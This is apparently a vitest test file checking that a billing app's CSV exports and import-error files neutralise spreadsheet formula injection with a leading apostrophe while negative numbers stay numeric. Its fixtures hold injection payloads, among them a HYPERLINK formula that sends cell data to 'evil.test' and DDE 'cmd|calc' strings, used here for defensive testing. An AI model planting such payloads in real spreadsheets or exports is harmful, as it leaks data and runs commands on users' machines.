import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from '../src/rules/csv.ts';
import { Agent } from './agent.ts';
import { TAX_DETAILS } from './documents-fixtures.ts';
import { builtExportUrl } from './export-fixtures.ts';
import { PASSWORD, startTestApp, type TestApp } from './harness.ts';
import { type JobsOrg, jobsOrg, multipart } from './jobs-fixtures.ts';

// A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return) as a formula: a customer named
// '=HYPERLINK(…)' becomes a link that sends the sheet's data away when clicked. Every CSV Spanner writes keeps such
// text as text (a leading apostrophe, OWASP's advice); numbers, negative ones included, stay numbers.

const FORMULAS = ['=HYPERLINK("https://evil.test/?x="&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", '+61 400 000 000', '-2+3', '\tTabbed'];

let t: TestApp;
let o: JobsOrg;
beforeAll(async () => {
  t = await startTestApp();
  o = await jobsOrg(t, 'Formula Co');
  await t.database.db.organization.update({ where: { id: o.org.id }, data: TAX_DETAILS });
});
afterAll(() => t.close());

/** The cells of a CSV text exactly as written (quotes kept), without parsing them back. */
const rawCells = (csv: string) => csv.split('\r\n').flatMap((line) => line.split(','));

describe('the full export', () => {
  it('writes formula-like text with a leading apostrophe in every table, and amounts (negative too) as numbers', async () => {
    const db = t.database.db;
    for (const name of FORMULAS) await db.customer.create({ data: { orgId: o.org.id, name, notes: name } });
    const credit = await o.as.admin.post('/api/invoices', {
      customerId: o.customers.acme.id,
      lines: [
        { description: '=1+1', quantity: 1, unit_amount: 20_000, tax_rate: 10 },
        { description: 'Loyalty credit', quantity: 1, unit_amount: -5_000, tax_rate: 10 },
      ],
    });
    expect(credit.status).toBe(201);

    const url = await builtExportUrl(t, o.as.admin, o.org.id);
    const res = await t.app.app.inject({
      method: 'GET',
      url: new URL(url).pathname,
      remoteAddress: t.clientAddress,
      headers: { cookie: [...o.as.admin.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
    });
    expect(res.statusCode).toBe(200);
    const files = unzipSync(new Uint8Array(res.rawPayload));
    const text = (name: string) => Buffer.from(files[name]).toString('utf8');

    const customers = text('customers.csv');
    expect(customers).toContain(`"'=HYPERLINK(""https://evil.test/?x=""&A1,""Open"")"`);
    expect(customers).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(customers).toContain("'+61 400 000 000");
    expect(customers).toContain("'-2+3");
    expect(customers).toContain("'\tTabbed");
    // No cell of any CSV file starts a formula.
    for (const name of Object.keys(files).filter((f) => f.endsWith('.csv'))) {
      const risky = rawCells(text(name)).filter((cell) => /^"?[=+@\t\r]/.test(cell) || /^"?-(?!\d+(\.\d+)?"?$)/.test(cell));
      expect({ name, risky }).toEqual({ name, risky: [] });
    }
    const lines = text('invoice-lines.csv');
    expect(lines).toContain("'=1+1");
    // The credit line's amounts are plain negative numbers a spreadsheet adds up.
    expect(lines).toMatch(/,-5000,/);
    expect(lines).not.toContain("'-5000");
  });
});

describe("an import's failed rows", () => {
  it('come back with formulas kept as text, and the fixed file imports the names as they were typed', async () => {
    const a = new Agent(t, { ip: '10.44.0.1' });
    await a.login(o.admin.email, PASSWORD);
    const csv = 'Company Name,Email\n=cmd|calc,not-an-email\n@Work,also-bad\n';
    const res = await a.request(
      'POST',
      '/api/customers/import-csv',
      multipart([{ field: 'csvFile', filename: 'c.csv', type: 'text/csv', bytes: Buffer.from(csv) }]),
    );
    expect(res.status).toBe(200);
    expect(res.body.failed_rows_csv).toBe(
      ['Company Name,Email,Error', "'=cmd|calc,not-an-email,Email: Enter a valid email", "'@Work,also-bad,Email: Enter a valid email"].join(
        '\r\n',
      ),
    );
    const fixed = (res.body.failed_rows_csv as string).replace('not-an-email', 'a@b.com.au').replace('also-bad', 'c@d.com.au');
    const again = await a.request(
      'POST',
      '/api/customers/import-csv',
      multipart([{ field: 'csvFile', filename: 'c.csv', type: 'text/csv', bytes: Buffer.from(fixed) }]),
    );
    expect(again.body).toMatchObject({ imported: 2, total: 2 });
    const names = await t.database.db.customer.findMany({
      where: { orgId: o.org.id, email: { in: ['a@b.com.au', 'c@d.com.au'] } },
      select: { name: true },
    });
    expect(names.map((c) => c.name).sort()).toEqual(['=cmd|calc', '@Work']);
  });
});

describe('the one CSV field rule (also the owner’s chart downloads)', () => {
  it('neutralises formula starts, keeps numbers', () => {
    expect(['=1', '+1', '-1+1', '@a', '\tx', '\rx', '＝1'].map(csvField)).toEqual([
      "'=1",
      "'+1",
      "'-1+1",
      "'@a",
      "'\tx",
      '"\'\rx"',
      "'＝1",
    ]);
    expect([-5000, '-44.55', '-12', 0, 'plain'].map(csvField)).toEqual(['-5000', '-44.55', '-12', '0', 'plain']);
  });
});
